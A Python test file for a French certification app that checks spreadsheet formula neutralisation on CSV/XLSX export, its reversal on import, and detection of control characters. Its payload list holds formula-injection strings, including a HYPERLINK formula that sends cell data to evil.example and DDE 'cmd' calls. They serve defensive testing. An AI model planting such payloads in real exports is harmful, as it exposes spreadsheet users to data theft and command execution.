"""Formula neutralisation for exports, its inverse for imports; forbidden characters in cells."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from certif.core.text import check_multiline, check_single_line
from certif.imports.cells import (
    TRIGGERS,
    forbidden_character_problems,
    needs_neutralising,
    neutralise,
    neutralise_frame,
    restore,
    restore_frame,
    xlsx_text_cell,
)
from certif.imports.reading import LINE

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]

# Texts that start like formulas, and texts that start with apostrophes: the cases that matter.
texts = st.one_of(
    st.text(),
    st.tuples(st.text("'", max_size=3), st.sampled_from([*TRIGGERS, "", "1", "a"]), st.text()).map(
        "".join
    ),
    st.from_regex(r"'*[+\-]?[0-9]{0,4}([.,][0-9]{0,3})?([eE][+\-]?[0-9]{1,3})?", fullmatch=True),
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_written_with_a_leading_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


@pytest.mark.parametrize("number", ["-12", "-12,5", "+3.5", "-1e5", "-.5", "+0"])
def test_plain_numbers_are_left_alone(number: str) -> None:
    assert neutralise(number) == number
    assert restore(number) == number


@pytest.mark.parametrize("text", ["Élodie", "a=b", "", "'", "'bonjour", " =1", "12-3"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_a_text_starting_with_an_apostrophe_keeps_it_through_the_round_trip() -> None:
    assert neutralise("'=x") == "''=x"
    assert restore("''=x") == "'=x"
    assert restore("'=x") == "=x"  # as typed by hand in a spreadsheet
    assert restore("'-5") == "'-5"  # an apostrophe before a number is the text's own


@given(texts)
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(texts)
def test_a_neutralised_text_never_starts_like_a_formula(text: str) -> None:
    written = neutralise(text)
    assert not written or written[0] not in TRIGGERS or not needs_neutralising(written)


@settings(max_examples=50, deadline=None)
@given(st.lists(texts, min_size=1, max_size=30))
def test_the_frame_helpers_agree_with_the_text_functions(values: list[str]) -> None:
    frame = pl.DataFrame({"texte": values, "nombre": list(range(len(values)))})
    neutralised = neutralise_frame(frame)
    assert neutralised["texte"].to_list() == [neutralise(v) for v in values]
    assert neutralised["nombre"].to_list() == frame["nombre"].to_list()
    assert restore_frame(neutralised).equals(frame)


def test_frame_helpers_keep_nulls_categories_and_other_types() -> None:
    frame = pl.DataFrame(
        {
            "nom": ["=1", None, "ok"],
            "bloc": pl.Series(["@B1", "B2", "@B1"], dtype=pl.Categorical),
            "note": [-1.5, 2.0, 3.0],
        }
    )
    neutralised = neutralise_frame(frame)
    assert neutralised["nom"].to_list() == ["'=1", None, "ok"]
    assert neutralised.schema["bloc"] == pl.Categorical
    assert neutralised["bloc"].cast(pl.String).to_list() == ["'@B1", "B2", "'@B1"]
    assert neutralised["note"].to_list() == [-1.5, 2.0, 3.0]
    assert neutralise_frame(frame, columns=["bloc"])["nom"].to_list() == ["=1", None, "ok"]
    assert restore_frame(neutralised).equals(frame)


def test_a_csv_export_reads_back_to_the_same_values() -> None:
    frame = pl.DataFrame({"nom": [*PAYLOADS, "'=déjà", "-3"], LINE: range(2, 11)})
    buffer = io.BytesIO()
    neutralise_frame(frame).write_csv(buffer, separator=";")
    rows = list(csv.reader(io.StringIO(buffer.getvalue().decode(), newline=""), delimiter=";"))
    starts = [cell[0] for cell, _ in rows[1:]]
    assert [c for c in starts if c in TRIGGERS] == ["-"]  # the number -3 only
    read = pl.DataFrame({"nom": [cell for cell, _ in rows[1:]]})
    assert restore_frame(read)["nom"].to_list() == frame["nom"].to_list()


def test_xlsx_text_cells_are_never_formulas(tmp_path: Path) -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([xlsx_text_cell(sheet, payload) for payload in PAYLOADS])
    path = tmp_path / "export.xlsx"
    workbook.save(path)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    values = next(load_workbook(path, read_only=True).worksheets[0].values)
    # XML turns a CR in text into LF: text fields refuse CR anyway (certif.core.text).
    assert [value.replace("\n", "\r") for value in values] == PAYLOADS


# -- forbidden characters in an imported frame --


def test_forbidden_characters_are_found_by_line_and_column() -> None:
    frame = pl.DataFrame(
        {
            "nom": ["DUPONT", "GUÉ\x1fRIN", "MARTIN\n", "ok"],
            "observation": ["a\nb", "c\r\nd", "e\rf", "g\x00"],
            LINE: [2, 3, 4, 5],
        }
    )
    problems, total = forbidden_character_problems(frame, ["nom"], ["observation"])
    assert total == 4
    assert [(p.line, p.column) for p in problems] == [
        (3, "nom"),
        (4, "nom"),
        (4, "observation"),
        (5, "observation"),
    ]
    assert problems[0].message == "caractère de contrôle U+001F interdit (position 4)"
    assert problems[0].value == "GUÉ\\u001fRIN"


def test_the_number_of_problems_reported_is_bounded() -> None:
    frame = pl.DataFrame({"nom": ["a\x01"] * 500, LINE: range(2, 502)})
    problems, total = forbidden_character_problems(frame, ["nom"], limit=10)
    assert (len(problems), total) == (10, 500)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=())), max_size=20))
def test_the_polars_search_agrees_with_the_text_rule(values: list[str]) -> None:
    frame = pl.DataFrame({"un": values, "plusieurs": values, LINE: range(len(values))})
    problems, _ = forbidden_character_problems(frame, ["un"], ["plusieurs"], limit=1000)
    found = {(p.line, p.column) for p in problems}
    for line, value in enumerate(values):
        for column, check in (("un", check_single_line), ("plusieurs", check_multiline)):
            try:
                check(value)
                refused = False
            except ValueError:
                refused = True
            assert ((line, column) in found) == refused
